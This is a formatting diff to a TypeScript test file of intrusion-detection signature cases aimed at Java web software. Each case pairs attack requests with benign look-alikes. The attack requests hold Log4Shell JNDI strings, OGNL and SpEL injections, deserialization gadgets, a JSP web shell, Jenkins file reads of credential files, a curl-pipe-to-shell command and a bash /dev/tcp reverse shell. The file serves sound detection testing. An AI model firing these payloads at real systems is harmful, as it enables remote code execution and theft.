@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
 import { big, hex, type SignatureCase, signature, talk } from '../exchange';
 import { get, JSON_TYPE, post, put, request, upload, XML_TYPE } from '../http';
 
@@ -42,10 +43,15 @@ export const webJava: readonly SignatureCase[] = [
     9000002,
     [
       get('/', { 'User-Agent': '${jndi:ldap://198.51.100.99:1389/a}' }),
-      get('/', { 'X-Api-Version': '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://198.51.100.99/a}' }),
+      get('/', {
+        'X-Api-Version': '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://198.51.100.99/a}',
+      }),
       get('/', { Referer: 'http://www.example.org/${${upper:j}n${lower:d}i:dns://example.net}' }),
     ],
-    [get('/', { Referer: 'https://www.example.org/${page}/edit' }), get('/', { 'X-Template': '${user.name}-${index}' })],
+    [
+      get('/', { Referer: 'https://www.example.org/${page}/edit' }),
+      get('/', { 'X-Template': '${user.name}-${index}' }),
+    ],
   ),
   signature(
     9000003,
@@ -107,9 +113,19 @@ export const webJava: readonly SignatureCase[] = [
         '{"id":"h","filters":[{"name":"AddResponseHeader","args":{"value":"#{new String(T(java.lang.Runtime).getRuntime())}"}}]}',
         JSON_TYPE,
       ),
-      post('/actuator/gateway/routes/x1', '{"args":{"v":"#{ T (java.lang.Class).forName(\'a\')}"}}', JSON_TYPE),
+      post(
+        '/actuator/gateway/routes/x1',
+        '{"args":{"v":"#{ T (java.lang.Class).forName(\'a\')}"}}',
+        JSON_TYPE,
+      ),
     ],
-    [post('/actuator/gateway/routes/shop', '{"predicates":[{"name":"Path","args":{"p":"/shop/**"}}]}', JSON_TYPE)],
+    [
+      post(
+        '/actuator/gateway/routes/shop',
+        '{"predicates":[{"name":"Path","args":{"p":"/shop/**"}}]}',
+        JSON_TYPE,
+      ),
+    ],
   ),
   signature(
     9000010,
@@ -137,11 +153,21 @@ export const webJava: readonly SignatureCase[] = [
   signature(
     9000012,
     [
-      get('/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/'),
-      get("/struts/${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['x']).(@java.lang.Runtime@getRuntime())}/help.action"),
-      get('/index.action?redirect:%25%7Bnew+java.lang.ProcessBuilder(new+java.lang.String%5B%5D%7B%27id%27%7D)%7D'),
+      get(
+        '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
+      ),
+      get(
+        "/struts/${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['x']).(@java.lang.Runtime@getRuntime())}/help.action",
+      ),
+      get(
+        '/index.action?redirect:%25%7Bnew+java.lang.ProcessBuilder(new+java.lang.String%5B%5D%7B%27id%27%7D)%7D',
+      ),
     ],
-    [get('/docs/java.lang.Runtime.html'), get('/search?q=%7Bjava+beans%7D'), get('/a/${java.version}/index.html')],
+    [
+      get('/docs/java.lang.Runtime.html'),
+      get('/search?q=%7Bjava+beans%7D'),
+      get('/a/${java.version}/index.html'),
+    ],
   ),
   signature(
     9000013,
@@ -167,11 +193,11 @@ export const webJava: readonly SignatureCase[] = [
     [
       post(
         '/template/aui/text-inline.vm',
-        "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d&x=@java.lang.Runtime@getRuntime()",
+        'label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d&x=@java.lang.Runtime@getRuntime()',
       ),
       post('/template/aui/text-inline.vm', 'a=1&label=%5cu0027%2b%23context.get(%27a%27)'),
     ],
-    [post('/template/aui/other.vm', "label=Don\\u0027t")],
+    [post('/template/aui/other.vm', 'label=Don\\u0027t')],
   ),
   signature(
     9000016,
@@ -206,35 +232,71 @@ export const webJava: readonly SignatureCase[] = [
         {},
         8080,
       ),
-      get('/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)'),
+      get(
+        '/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)',
+      ),
     ],
     [get('/job/a/descriptorByName/hudson.tasks.Shell/checkScript?value=println+1')],
   ),
   signature(
     9000019,
     [
-      post('/cli?remoting=false', `${jenkinsArgument('help')}${jenkinsArgument('@/etc/passwd')}`, { Side: 'upload' }, 8080),
-      post('/cli?remoting=false', `${jenkinsArgument('connect-node')}${jenkinsArgument('@C:\\secrets\\master.key')}`),
+      post(
+        '/cli?remoting=false',
+        `${jenkinsArgument('help')}${jenkinsArgument('@/etc/passwd')}`,
+        { Side: 'upload' },
+        8080,
+      ),
+      post(
+        '/cli?remoting=false',
+        `${jenkinsArgument('connect-node')}${jenkinsArgument('@C:\\secrets\\master.key')}`,
+      ),
     ],
     [post('/cli?remoting=false', `${jenkinsArgument('who-am-i')}${jenkinsArgument('ops@example.org')}`)],
   ),
   signature(
     9000020,
-    [put('/shell.jsp/', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', {}, 8080), put('/x.jspx%20', '<jsp:scriptlet>x</jsp:scriptlet>')],
+    [
+      put('/shell.jsp/', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', {}, 8080),
+      put('/x.jspx%20', '<jsp:scriptlet>x</jsp:scriptlet>'),
+    ],
     [put('/docs/readme.txt', '<% not a page %>'), put('/files/index.jsp.bak', '<b>old</b>')],
   ),
   signature(
     9000021,
     [
-      talk(8009, ajp([['javax.servlet.include.request_uri', '/'], ['javax.servlet.include.path_info', '/WEB-INF/web.xml']])),
-      talk(8009, ajp([['remote', 'x'], ['javax.servlet.include.servlet_path', '/']])),
+      talk(
+        8009,
+        ajp([
+          ['javax.servlet.include.request_uri', '/'],
+          ['javax.servlet.include.path_info', '/WEB-INF/web.xml'],
+        ]),
+      ),
+      talk(
+        8009,
+        ajp([
+          ['remote', 'x'],
+          ['javax.servlet.include.servlet_path', '/'],
+        ]),
+      ),
     ],
-    [talk(8009, ajp([['AJP_REMOTE_PORT', '40000'], ['javax.servlet.request.ssl_session', 'none']]))],
+    [
+      talk(
+        8009,
+        ajp([
+          ['AJP_REMOTE_PORT', '40000'],
+          ['javax.servlet.request.ssl_session', 'none'],
+        ]),
+      ),
+    ],
   ),
   signature(
     9000022,
     [
-      post('/invoker/JMXInvokerServlet', gadget('org.apache.commons.collections.functors.ChainedTransformer')),
+      post(
+        '/invoker/JMXInvokerServlet',
+        gadget('org.apache.commons.collections.functors.ChainedTransformer'),
+      ),
       post('/invoker/readonly', `\0\x01${gadget('org.apache.commons.beanutils.BeanComparator')}`, {}, 8080),
     ],
     [post('/remoting/orders', gadget('org.example.orders.Order'))],
@@ -242,15 +304,23 @@ export const webJava: readonly SignatureCase[] = [
   signature(
     9000023,
     [
-      post('/faces/login.xhtml', `javax.faces.ViewState=${base64(gadget('org.apache.commons.collections.map.LazyMap'))}`),
-      post('/state', `s=${base64(`${gadget('a')}${gadget('org.apache.xalan.internal.xsltc.trax.TemplatesImpl')}`)}`),
+      post(
+        '/faces/login.xhtml',
+        `javax.faces.ViewState=${base64(gadget('org.apache.commons.collections.map.LazyMap'))}`,
+      ),
+      post(
+        '/state',
+        `s=${base64(`${gadget('a')}${gadget('org.apache.xalan.internal.xsltc.trax.TemplatesImpl')}`)}`,
+      ),
     ],
     [post('/faces/login.xhtml', `javax.faces.ViewState=${base64(gadget('org.example.ui.State'))}`)],
   ),
   signature(
     9000024,
     [
-      get('/', { Cookie: `rememberMe=${base64(gadget('org.apache.commons.collections.keyvalue.TiedMapEntry'))}` }),
+      get('/', {
+        Cookie: `rememberMe=${base64(gadget('org.apache.commons.collections.keyvalue.TiedMapEntry'))}`,
+      }),
       get('/', { Cookie: `a=b; state=${base64(gadget('xx.org.apache.commons.collections4'))}` }),
     ],
     [get('/', { Cookie: `state=${base64(gadget('java.util.HashMap'))}` })],
@@ -259,14 +329,22 @@ export const webJava: readonly SignatureCase[] = [
     9000025,
     [
       talk(1099, `JRMI\0\x02K`, `P${gadget('org.apache.commons.collections.functors.InvokerTransformer')}`),
-      talk(7001, 't3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n', `\0\0\x09\xf3\x01${gadget('com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase')}`),
+      talk(
+        7001,
+        't3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n',
+        `\0\0\x09\xf3\x01${gadget('com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase')}`,
+      ),
     ],
     [talk(1099, 'JRMI\0\x02K', `P${SERIALIZED}w"\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01`)],
   ),
   signature(
     9000026,
     [
-      post('/api', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://example.net/a","autoCommit":true}', JSON_TYPE),
+      post(
+        '/api',
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://example.net/a","autoCommit":true}',
+        JSON_TYPE,
+      ),
       post('/api', '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://example.net/a"}]', JSON_TYPE),
     ],
     [post('/api', '{"@type":"org.example.Order","dataSource":"main"}', JSON_TYPE)],
@@ -274,8 +352,18 @@ export const webJava: readonly SignatureCase[] = [
   signature(
     9000027,
     [
-      talk(61616, openWire(31, 'org.springframework.context.support.ClassPathXmlApplicationContext', 'http://example.net/p.xml')),
-      talk(61616, openWire(31, 'org.apache.xbean.spring.ClassPathXmlApplicationContext', 'http://198.51.100.99/a')),
+      talk(
+        61616,
+        openWire(
+          31,
+          'org.springframework.context.support.ClassPathXmlApplicationContext',
+          'http://example.net/p.xml',
+        ),
+      ),
+      talk(
+        61616,
+        openWire(31, 'org.apache.xbean.spring.ClassPathXmlApplicationContext', 'http://198.51.100.99/a'),
+      ),
     ],
     [talk(61616, openWire(31, 'java.io.IOException', 'connection lost'))],
   ),
@@ -283,7 +371,11 @@ export const webJava: readonly SignatureCase[] = [
     9000028,
     [
       talk(8000, 'JDWP-Handshake', `${hex('00000022 00000005 00 01 02')}\0\0\0\x13Ljava/lang/Runtime;`),
-      talk(5005, `JDWP-Handshake${hex('0000000b 00000001 00 01 07')}`, `${hex('00000022 00000002 00 01 02')}\0\0\0\x13Ljava/lang/Runtime;`),
+      talk(
+        5005,
+        `JDWP-Handshake${hex('0000000b 00000001 00 01 07')}`,
+        `${hex('00000022 00000002 00 01 02')}\0\0\0\x13Ljava/lang/Runtime;`,
+      ),
     ],
     [talk(8000, 'JDWP-Handshake', `${hex('00000023 00000005 00 01 02')}\0\0\0\x14Lorg/example/Orders;`)],
   ),
@@ -298,24 +390,67 @@ export const webJava: readonly SignatureCase[] = [
   signature(
     9000030,
     [
-      post('/solr/core/config', '{"update-queryresponsewriter":{"name":"velocity","params.resource.loader.enabled":"true"}}', JSON_TYPE, 8983),
-      post('/solr/x/config', "{'update-queryresponsewriter':{'params.resource.loader.enabled' : true}}", JSON_TYPE),
+      post(
+        '/solr/core/config',
+        '{"update-queryresponsewriter":{"name":"velocity","params.resource.loader.enabled":"true"}}',
+        JSON_TYPE,
+        8983,
+      ),
+      post(
+        '/solr/x/config',
+        "{'update-queryresponsewriter':{'params.resource.loader.enabled' : true}}",
+        JSON_TYPE,
+      ),
     ],
-    [post('/solr/core/config', '{"set-property":{"params.resource.loader.enabled":"false"}}', JSON_TYPE, 8983)],
+    [
+      post(
+        '/solr/core/config',
+        '{"set-property":{"params.resource.loader.enabled":"false"}}',
+        JSON_TYPE,
+        8983,
+      ),
+    ],
   ),
   signature(
     9000031,
     [
-      post('/ws/v1/cluster/apps', '{"application-id":"a","am-container-spec":{"commands":{"command":"curl http://example.net/x.sh | sh"}}}', JSON_TYPE, 8088),
-      post('/ws/v1/cluster/apps', '{"am-container-spec":{"commands":{"command":"/bin/bash -i >& /dev/tcp/198.51.100.99/4444 0>&1"}}}', JSON_TYPE, 8088),
+      post(
+        '/ws/v1/cluster/apps',
+        '{"application-id":"a","am-container-spec":{"commands":{"command":"curl http://example.net/x.sh | sh"}}}',
+        JSON_TYPE,
+        8088,
+      ),
+      post(
+        '/ws/v1/cluster/apps',
+        '{"am-container-spec":{"commands":{"command":"/bin/bash -i >& /dev/tcp/198.51.100.99/4444 0>&1"}}}',
+        JSON_TYPE,
+        8088,
+      ),
     ],
-    [post('/ws/v1/cluster/apps', '{"am-container-spec":{"commands":{"command":"{{JAVA_HOME}}/bin/java -Xmx10m MyMaster"}}}', JSON_TYPE, 8088)],
+    [
+      post(
+        '/ws/v1/cluster/apps',
+        '{"am-container-spec":{"commands":{"command":"{{JAVA_HOME}}/bin/java -Xmx10m MyMaster"}}}',
+        JSON_TYPE,
+        8088,
+      ),
+    ],
   ),
   signature(
     9000032,
     [
-      post('/_search?pretty', '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()"}}}', JSON_TYPE, 9200),
-      post('/website/blog/_search', '{"script_fields":{"x":{"script":"import java.util.*; new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\"))"}}}', JSON_TYPE, 9200),
+      post(
+        '/_search?pretty',
+        '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()"}}}',
+        JSON_TYPE,
+        9200,
+      ),
+      post(
+        '/website/blog/_search',
+        '{"script_fields":{"x":{"script":"import java.util.*; new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\"))"}}}',
+        JSON_TYPE,
+        9200,
+      ),
     ],
     [post('/shop/_search', '{"query":{"match":{"title":"java.lang and scripting"}}}', JSON_TYPE, 9200)],
   ),
@@ -338,15 +473,23 @@ export const webJava: readonly SignatureCase[] = [
   signature(
     9000035,
     [
-      get("/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/x')", {}, 8080),
-      get('/geoserver/wfs?valueReference=exec%20%28java.lang.Runtime.getRuntime%28%29%2C%27id%27%29&request=GetPropertyValue'),
+      get(
+        "/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/x')",
+        {},
+        8080,
+      ),
+      get(
+        '/geoserver/wfs?valueReference=exec%20%28java.lang.Runtime.getRuntime%28%29%2C%27id%27%29&request=GetPropertyValue',
+      ),
     ],
     [get('/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=the_geom', {}, 8080)],
   ),
   signature(
     9000036,
     [
-      get('/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D'),
+      get(
+        '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D',
+      ),
       get('/a?x=<%23assign+ex="Freemarker.Template.Utility.Execute"?new()>'),
     ],
     [get('/docs?q=freemarker.template.Template')],
